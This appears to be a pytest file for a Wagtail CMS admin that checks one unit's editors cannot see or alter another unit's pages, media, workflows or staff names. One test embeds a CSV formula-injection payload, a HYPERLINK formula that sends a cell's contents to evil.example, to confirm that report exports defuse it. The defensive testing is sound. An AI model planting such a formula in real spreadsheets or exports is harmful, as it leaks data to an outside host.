"""Wagtail screens that named another unit's objects or staff, and admin
requests that answered 500 (`admin_guards.py`)."""

import pytest
from django.contrib.contenttypes.models import ContentType
from django.contrib.messages import get_messages
from django.core.files.base import ContentFile
from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.images.tests.utils import get_test_image_file
from wagtail.models import Collection, Page, PageLogEntry, UploadedFile

from cms.core.factories import ContentPageFactory
from cms.core.unit_access import ensure_unit_access

pytestmark = pytest.mark.django_db

SECRET = "RAHASIA-B"


@pytest.fixture
def moderator_b(make_staff, unit_b):
    return make_staff(unit_b, role="moderator", first_name="Budi", last_name=SECRET)


@pytest.fixture
def page_b(unit_b, moderator_b):
    """A page of unit B, published by its moderator, with a newer draft."""
    page = ContentPageFactory(parent=unit_b, title=f"{SECRET} live", live=False)
    page.save_revision(user=moderator_b).publish(user=moderator_b)
    page.title = f"{SECRET} draft"
    page.save_revision(user=moderator_b)
    return page


def media_of(unit, title):
    collection = ensure_unit_access(unit).collection
    image = Image.objects.create(
        title=title, file=get_test_image_file(), collection=collection
    )
    document = Document.objects.create(
        title=title,
        file=ContentFile(b"%PDF-1.4\n", name="berkas.pdf"),
        collection=collection,
    )
    return image, document


@pytest.fixture
def media_b(unit_b):
    return media_of(unit_b, f"{SECRET} media")


@pytest.fixture
def media_a(unit_a):
    return media_of(unit_a, "Media KJRI")


@pytest.fixture
def editor_a(client, make_staff, unit_a):
    editor = make_staff(unit_a)
    client.force_login(editor)
    return editor


def refused_without_names(response) -> bool:
    return response.status_code in (302, 403, 404) and SECRET not in (
        response.content.decode()
    )


@pytest.mark.parametrize("endpoint", ["images", "documents"])
def test_admin_api_lists_only_the_units_own_media(
    client, editor_a, media_a, media_b, endpoint
):
    response = client.get(f"/admin/api/main/{endpoint}/")

    assert response.status_code == 200
    titles = [item["title"] for item in response.json()["items"]]
    assert titles == ["Media KJRI"]


@pytest.mark.parametrize(
    "model, action",
    [
        ("wagtailimages/image", "delete"),
        ("wagtailimages/image", "add_tags"),
        ("wagtaildocs/document", "add_to_collection"),
    ],
)
def test_bulk_action_screens_do_not_list_another_units_media(
    client, editor_a, media_a, media_b, model, action
):
    other = media_b[0] if model.startswith("wagtailimages") else media_b[1]
    own = media_a[0] if model.startswith("wagtailimages") else media_a[1]

    refused = client.get(f"/admin/bulk/{model}/{action}/?id={other.pk}")
    mixed = client.get(f"/admin/bulk/{model}/{action}/?id={other.pk}&id={own.pk}")
    everything = client.get(f"/admin/bulk/{model}/{action}/?id=all")

    assert refused_without_names(refused)
    for response in (mixed, everything):
        assert response.status_code == 200
        assert "Media KJRI" in response.content.decode()
        assert SECRET not in response.content.decode()


def test_bulk_page_actions_do_not_name_another_units_pages(
    client, editor_a, page_b, unit_b
):
    by_id = client.get(f"/admin/bulk/wagtailcore/page/delete/?id={page_b.pk}")
    by_listing = client.get(
        f"/admin/bulk/wagtailcore/page/publish/?id=all&childOf={unit_b.pk}"
    )

    assert refused_without_names(by_id)
    assert refused_without_names(by_listing)


def test_bulk_delete_of_another_units_image_deletes_nothing(client, editor_a, media_b):
    image = media_b[0]

    client.post(f"/admin/bulk/wagtailimages/image/delete/?id={image.pk}")

    assert Image.objects.filter(pk=image.pk).exists()


def test_superuser_still_sees_every_selected_object(client, superuser, media_b):
    client.force_login(superuser)

    response = client.get("/admin/bulk/wagtailimages/image/delete/?id=all")

    assert f"{SECRET} media" in response.content.decode()


def test_site_history_names_only_colleagues_and_administrators(
    client, make_staff, unit_a, page_b, superuser
):
    colleague = make_staff(unit_a, first_name="Citra", last_name="Kolega")
    own = ContentPageFactory(parent=unit_a, title="Jam layanan")
    own.save_revision(user=colleague)
    PageLogEntry.objects.log_action(own, "wagtail.edit", user=colleague)
    editor = make_staff(unit_a)
    client.force_login(editor)

    body = client.get("/admin/reports/site-history/").content.decode()

    assert "Citra Kolega" in body
    assert SECRET not in body


def test_move_confirmation_of_another_units_page_is_refused(
    client, editor_a, unit_a, page_b
):
    response = client.get(f"/admin/pages/{page_b.pk}/move/{unit_a.pk}/confirm/")
    posted = client.post(f"/admin/pages/{page_b.pk}/move/{unit_a.pk}/confirm/")

    assert refused_without_names(response)
    assert refused_without_names(posted)
    assert Page.objects.get(pk=page_b.pk).get_parent().pk != unit_a.pk


def test_move_confirmation_of_an_own_page_is_shown(client, make_staff, unit_a):
    moderator = make_staff(unit_a, role="moderator")
    page = ContentPageFactory(parent=unit_a, title="Jam layanan")
    target = ContentPageFactory(parent=unit_a, title="Informasi")
    client.force_login(moderator)

    response = client.get(f"/admin/pages/{page.pk}/move/{target.pk}/confirm/")

    assert response.status_code == 200
    assert "Jam layanan" in response.content.decode()


def test_workflow_cancellation_confirmation_only_for_publishers(
    client, editor_a, page_b, moderator_b
):
    path = f"/admin/pages/workflow/confirm_cancellation/{page_b.pk}/"
    refused = client.get(path)
    client.force_login(moderator_b)
    shown = client.get(path)

    assert refused_without_names(refused)
    assert refused.status_code != 200
    assert shown.status_code == 200


def test_error_test_screen_is_not_found(client, editor_a):
    response = client.get("/admin/failwhale/", follow=True)

    assert response.status_code == 404


def test_external_link_chooser_without_its_field_shows_the_form(client, editor_a):
    response = client.post("/admin/choose-external-link/", {})

    assert response.status_code == 200
    assert response.json()["step"] == "external_link"


def test_redirect_import_without_its_signed_fields_is_a_bad_request(client, superuser):
    client.force_login(superuser)

    response = client.post("/admin/redirects/import/process/", {})

    assert response.status_code == 400


def test_redirect_import_refuses_unit_staff(client, editor_a):
    response = client.post("/admin/redirects/import/process/", {})

    assert response.status_code in (302, 403)


def test_synonym_chooser_has_no_create_step(client, superuser):
    client.force_login(superuser)

    response = client.post("/admin/snippets/choose/search/synonym/create/", {})

    assert response.status_code in (302, 404)


def test_publish_through_the_admin_api_saves_nothing_without_permission(
    client, editor_a, unit_a
):
    page = ContentPageFactory(parent=unit_a, title="Tanpa revisi")
    assert page.revisions.count() == 0

    response = client.post(
        f"/admin/api/main/pages/{page.pk}/action/publish/",
        {},
        content_type="application/json",
    )

    assert response.status_code == 403
    assert page.revisions.count() == 0


def test_explorer_does_not_open_another_units_pages(client, editor_a, page_b, unit_b):
    for path in (
        f"/admin/pages/{unit_b.pk}/",
        f"/admin/pages/{page_b.pk}/",
        f"/admin/pages/{unit_b.pk}/results/",
    ):
        assert refused_without_names(client.get(path)), path


def test_explorer_opens_the_units_own_pages(client, editor_a, unit_a):
    response = client.get(f"/admin/pages/{unit_a.pk}/")

    assert response.status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/admin/pages/",
        "/admin/pages/usage/core/contentpage/",
        "/admin/reports/locked/",
        "/admin/reports/workflow/",
        "/admin/forms/",
    ],
)
def test_user_filters_name_only_colleagues(
    client, make_staff, unit_a, unit_b, page_b, moderator_b, path
):
    page_b.save_revision(user=moderator_b).publish(user=moderator_b)
    page_b.refresh_from_db()
    page_b.owner = moderator_b
    page_b.locked, page_b.locked_by = True, moderator_b
    page_b.save()
    page_b.get_workflow().start(page_b, moderator_b)
    client.force_login(make_staff(unit_a, role="moderator"))

    response = client.get(path, follow=True)

    assert response.status_code == 200
    assert SECRET not in response.content.decode()


@pytest.mark.parametrize("parent", ["", "999999", "x"])
def test_copy_to_an_empty_or_unknown_parent_is_a_bad_request(
    client, superuser, page_b, parent
):
    client.force_login(superuser)

    response = client.post(
        f"/admin/pages/{page_b.pk}/copy/",
        {"new_title": "Salinan", "new_slug": "salinan", "new_parent_page": parent},
    )

    assert response.status_code == 400


def test_copy_to_a_known_parent_still_copies(client, superuser, page_b, unit_b):
    client.force_login(superuser)

    response = client.post(
        f"/admin/pages/{page_b.pk}/copy/",
        {"new_title": "Salinan", "new_slug": "salinan", "new_parent_page": unit_b.pk},
    )

    assert response.status_code == 302
    assert Page.objects.filter(slug="salinan", depth=page_b.depth).exists()


def test_copy_to_another_units_page_names_no_draft_title(
    client, editor_a, unit_a, page_b
):
    """Wagtail's refusal named the destination by its draft title, so trying
    ids in turn listed another unit's unpublished titles."""
    own = ContentPageFactory(parent=unit_a, title="Halaman A")

    response = client.post(
        f"/admin/pages/{own.pk}/copy/",
        {"new_title": "Salinan", "new_slug": "salinan", "new_parent_page": page_b.pk},
        follow=True,
    )

    assert SECRET not in response.content.decode()
    assert not Page.objects.filter(slug="salinan").exists()


def test_copy_within_the_own_unit_still_copies(client, editor_a, unit_a):
    own = ContentPageFactory(parent=unit_a, title="Halaman A")

    response = client.post(
        f"/admin/pages/{own.pk}/copy/",
        {"new_title": "Salinan", "new_slug": "salinan", "new_parent_page": unit_a.pk},
    )

    assert response.status_code == 302
    assert Page.objects.filter(slug="salinan", depth=own.depth).exists()


FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Lihat")'


@pytest.mark.parametrize("report", ["site-history", "workflow"])
def test_wagtails_report_exports_neutralise_formulas(client, superuser, unit_a, report):
    page = ContentPageFactory(parent=unit_a, title=FORMULA)
    revision = page.save_revision(user=superuser)
    revision.publish(user=superuser)
    page.locked, page.locked_by = True, superuser
    page.save()
    page.get_workflow().start(page, superuser)
    client.force_login(superuser)

    response = client.get(f"/admin/reports/{report}/?export=csv")

    body = b"".join(
        response.streaming_content if response.streaming else [response.content]
    )
    text = body.decode("utf-8-sig")
    assert FORMULA.replace('"', '""') in text
    assert f"\n{FORMULA}" not in text and f",{FORMULA}" not in text
    assert f'"{FORMULA.replace(chr(34), chr(34) * 2)}' not in text


def test_last_step_of_a_multiple_document_upload_creates_the_document(
    client, superuser
):
    upload = UploadedFile.objects.create(
        file=ContentFile(b"%PDF-1.4\n", name="jadwal.pdf"),
        for_content_type=ContentType.objects.get_for_model(Document),
        uploaded_by_user=superuser,
    )
    client.force_login(superuser)
    path = f"/admin/documents/multiple/create_from_uploaded_document/{upload.pk}/"
    prefix = f"uploaded-document-{upload.pk}"

    empty = client.post(path, {})
    created = client.post(
        path,
        {f"{prefix}-title": "Jadwal layanan", f"{prefix}-collection": root_id()},
    )

    assert empty.status_code == 200 and empty.json()["success"] is False
    assert created.status_code == 200 and created.json()["success"] is True
    assert Document.objects.get(title="Jadwal layanan").file.name.endswith(".pdf")


def root_id() -> int:
    return Collection.get_first_root_node().pk


# Workflow screens of another unit's page ---------------------------------------------


@pytest.fixture
def moderator_a(client, make_staff, unit_a):
    moderator = make_staff(unit_a, role="moderator")
    client.force_login(moderator)
    return moderator


def in_moderation(page, user):
    """`page` with a new revision submitted to its unit's workflow."""
    page.save_revision(user=user)
    page.get_workflow().start(page, user)
    page.refresh_from_db()
    return page.current_workflow_task_state


@pytest.fixture
def own_task_state(unit_a, moderator_a):
    page = ContentPageFactory(parent=unit_a, title="Jam layanan")
    return page, in_moderation(page, moderator_a)


def refused_outright(response) -> bool:
    """Refused, without the page's draft title in the answer or in the messages
    it leaves (Wagtail's redirect to the dashboard named it in its message)."""
    shown = [response.content.decode()]
    shown += [str(message) for message in get_messages(response.wsgi_request)]
    return response.status_code in (302, 403, 404) and not any(
        SECRET in text for text in shown
    )


def test_workflow_screens_of_another_units_page_are_refused(
    client, moderator_a, own_task_state, page_b
):
    _page, task_state = own_task_state
    for path in (
        f"/admin/pages/workflow/preview/{page_b.pk}/{task_state.task_id}/",
        f"/admin/pages/workflow/action/{page_b.pk}/approve/{task_state.pk}/",
        f"/admin/pages/workflow/collect_action_data/{page_b.pk}/approve/"
        f"{task_state.pk}/",
    ):
        assert refused_outright(client.get(path)), path
        assert refused_outright(client.post(path, {"comment": ""})), path
    task_state.refresh_from_db()
    assert task_state.status == task_state.STATUS_IN_PROGRESS


def test_workflow_action_on_another_units_page_in_moderation_is_refused(
    client, moderator_a, page_b, moderator_b
):
    task_state = in_moderation(page_b, moderator_b)

    response = client.get(
        f"/admin/pages/workflow/action/{page_b.pk}/approve/{task_state.pk}/"
    )

    assert refused_outright(response)


def test_workflow_action_with_another_pages_task_state_is_not_found(
    client, moderator_a, unit_a, own_task_state
):
    page, task_state = own_task_state
    other = ContentPageFactory(parent=unit_a, title="Informasi")
    other_state = in_moderation(other, moderator_a)

    mixed = client.get(
        f"/admin/pages/workflow/action/{page.pk}/approve/{other_state.pk}/"
    )
    own = client.get(f"/admin/pages/workflow/action/{page.pk}/approve/{task_state.pk}/")

    assert mixed.status_code == 404
    assert own.status_code == 200


def test_workflow_preview_of_an_own_page_is_shown(client, moderator_a, own_task_state):
    page, task_state = own_task_state

    response = client.get(
        f"/admin/pages/workflow/preview/{page.pk}/{task_state.task_id}/"
    )

    assert response.status_code == 200


def test_superuser_keeps_wagtails_workflow_screens(
    client, superuser, page_b, moderator_b
):
    task_state = in_moderation(page_b, moderator_b)
    client.force_login(superuser)

    response = client.get(
        f"/admin/pages/workflow/action/{page_b.pk}/approve/{task_state.pk}/"
    )

    assert response.status_code == 200


# The page types report ---------------------------------------------------------------


@pytest.mark.parametrize("path", ["", "results/"])
def test_page_types_report_names_only_the_units_own_last_edited_page(
    client, editor_a, unit_a, page_b, moderator_b, path
):
    own = ContentPageFactory(parent=unit_a, title="Jam layanan")
    own.save_revision(user=editor_a)
    page_b.save_revision(user=moderator_b)  # the last edited content page

    response = client.get(f"/admin/reports/page-types-usage/{path}")

    body = response.content.decode()
    assert response.status_code == 200
    assert "Jam layanan" in body
    assert SECRET not in body


def test_page_types_report_names_any_last_edited_page_to_superusers(
    client, superuser, page_b
):
    client.force_login(superuser)

    response = client.get("/admin/reports/page-types-usage/")

    assert f"{SECRET} draft" in response.content.decode()


def test_page_types_report_counts_only_the_units_own_pages(
    client, editor_a, unit_a, page_b, moderator_b
):
    """Another unit's drafts counted in: a count that grew told that it
    was writing a page."""
    ContentPageFactory(parent=unit_a, title="Jam layanan")
    before = client.get("/admin/reports/page-types-usage/").context["object_list"]
    ContentPageFactory(parent=page_b.get_parent(), title=f"{SECRET} baru", live=False)
    after = client.get("/admin/reports/page-types-usage/").context["object_list"]
    counts = {t.model: t.count for t in after}
    assert counts == {t.model: t.count for t in before}
    assert counts["contentpage"] == 1
